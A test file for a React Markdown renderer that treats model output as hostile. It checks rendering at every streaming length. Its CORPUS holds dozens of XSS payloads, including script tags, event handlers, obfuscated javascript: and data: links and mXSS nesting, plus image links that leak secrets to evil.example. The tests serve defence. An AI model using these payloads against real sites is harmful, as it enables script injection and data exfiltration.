import { renderToStaticMarkup } from 'react-dom/server';
import { describe, expect, it } from 'vitest';
import { highlight } from './highlight.ts';
import { Markdown } from './markdown.tsx';

const html = (text: string, streaming = false): string =>
  renderToStaticMarkup(<Markdown text={text} streaming={streaming} />);

// React writes every `<` of text as `&lt;`, so what looks like a tag in the markup is an element.
const elements = (markup: string): { name: string; attributes: string }[] =>
  [...markup.matchAll(/<([a-zA-Z][\w-]*)((?:\s+[^<>]*)?)>/g)].map((it) => ({
    name: it[1]!.toLowerCase(),
    attributes: it[2]!,
  }));

const ALLOWED = new Set(
  'div section p h3 h4 h5 ul ol li table thead tbody tr th td blockquote hr br strong em del code pre span a button svg path rect polyline line circle'.split(
    ' ',
  ),
);

const CORPUS = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<IMG SRC="javascript:alert(1)">',
  'text <img src="https://evil.example/p.png?q=secret" onload="x()"> text',
  '<svg onload=alert(1)><a xlink:href="javascript:alert(1)">x</a></svg>',
  '<iframe src="https://evil.example"></iframe>',
  '<form action="https://evil.example"><input name=a><button>go</button></form>',
  '<style>*{background:url(https://evil.example)}</style>',
  '<a href="javascript:alert(1)">x</a>',
  '[click](javascript:alert(1))',
  '[click](JaVaScRiPt:alert(1))',
  '[click](java\nscript:alert(1))',
  '[click](java&#10;script:alert(1))',
  '[click](&#106;avascript:alert(1))',
  '[click](javascript&colon;alert(1))',
  '[click](data:text/html;base64,PHNjcmlwdD4=)',
  '[click](vbscript:msgbox(1))',
  '[click](//evil.example/x)',
  '[click](file:///etc/passwd)',
  '[click](http://plain.example)',
  '<javascript:alert(1)>',
  '[ref]\n\n[ref]: javascript:alert(1)',
  '![alt](https://evil.example/leak.png?d=secret)',
  '![alt](javascript:alert(1))',
  '![x][y]\n\n[y]: https://evil.example/leak.png "t"',
  '[![img](https://evil.example/a.png)](https://ok.example)',
  '```html\n<script>alert(1)</script>\n```',
  '`<img src=x onerror=alert(1)>`',
  '| a | b |\n|---|---|\n| <img src=x onerror=y> | [x](javascript:z) |',
  '- [ ] <script>x</script>\n- [x] ![a](https://evil.example)',
  '> <iframe src=x>\n> [a](javascript:b)',
  '**<b onmouseover=alert(1)>bold</b>**',
  '# <h1 onclick=x>title',
  '&lt;script&gt;alert(1)&lt;/script&gt; &#60;img src=x onerror=y&#62;',
  '"><script>alert(1)</script>',
  '[a](https://ok.example/"onmouseover="x)',
  '[a](<https://ok.example/ onclick=x>)',
  '```js" onload="x\ncode\n```',
  '<!-- <img src=x onerror=y> -->',
  '<details open ontoggle=alert(1)>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '1. a\n   <script>x</script>\n2. [b](data:x)',
];

function isHarmless(markup: string): void {
  for (const { name, attributes } of elements(markup)) {
    expect(ALLOWED.has(name), `<${name}> in ${markup}`).toBe(true);
    expect(attributes).not.toMatch(/\son\w+=/i);
    expect(attributes).not.toMatch(
      /\s(?:src|srcset|srcdoc|action|formaction|xlink:href|background|poster)=/i,
    );
    const href = /\shref="([^"]*)"/.exec(attributes)?.[1];
    if (href !== undefined) {
      expect(href).toMatch(/^(?:https:\/\/|mailto:)/);
      expect(attributes).toContain('rel="noopener noreferrer nofollow ugc"');
    }
  }
}

describe('Markdown against model output as an attack', () => {
  it.each(CORPUS)('%j, at every length it is streamed with', (attack) => {
    for (let length = 1; length <= attack.length; length++) {
      isHarmless(html(attack.slice(0, length), true));
    }
    isHarmless(html(attack));
  });

  it('shows raw HTML and images as text', () => {
    expect(html('<b>x</b> ![cat](https://a.example/c.png)')).toContain('&lt;b&gt;x&lt;/b&gt;');
    expect(html('![cat](https://a.example/c.png)')).toContain('[image: cat, https://a.example/c.png]');
  });

  it('names the host of a link that hides it', () => {
    expect(html('[our page](https://evil.example/login)')).toContain('(evil.example)');
    expect(html('<https://ok.example/a>')).not.toContain('(ok.example)');
  });

  it('shows marks that turn the direction of code', () => {
    expect(html('```\na\u202eb\n```')).toContain('a⟨U+202E⟩b');
  });
});

describe('Markdown as it streams', () => {
  it('shows an open fence as code', () => {
    expect(html('Here:\n\n```python\ndef f():', true)).toMatch(/<pre[^>]*><code>def f\(\):<\/code>/);
  });

  it('closes emphasis and code spans still open', () => {
    expect(html('so **very bo', true)).toContain('<strong>very bo</strong>');
    expect(html('run `npm in', true)).toContain('<code>npm in</code>');
    expect(html('so **very bo')).toContain('**very bo');
  });

  it('writes tables, tasks, numbered lists and character references', () => {
    const markup = html('| a | b |\n|:--|--:|\n| 1 | 2 |\n\n3. x\n4. y\n\n- [x] done\n\nA &amp; B &#8364;5');
    expect(markup).toContain('<td style="text-align:right">2</td>');
    expect(markup).toContain('<ol start="3">');
    expect(markup).toContain('☑');
    expect(markup).toContain('A &amp; B €5');
  });
});

describe('highlight', () => {
  it.each([
    ['python', 'def f(x):\n    """doc"""\n    return x * 2.5  # twice'],
    ['js', 'const a = `x ${1}`; // note\n/* b */ "q\\"r"'],
    ['sql', "SELECT 'it' -- all\nFROM t"],
    ['text', 'def not code'],
  ])('%s: the parts are the code', (language, code) => {
    const parts = highlight(code, language);
    expect(parts.map((it) => it.text).join('')).toBe(code);
  });

  it('finds what is what', () => {
    expect(highlight('return 2 # no', 'python').filter((it) => it.kind)).toEqual([
      { kind: 'keyword', text: 'return' },
      { kind: 'number', text: '2' },
      { kind: 'comment', text: '# no' },
    ]);
  });
});
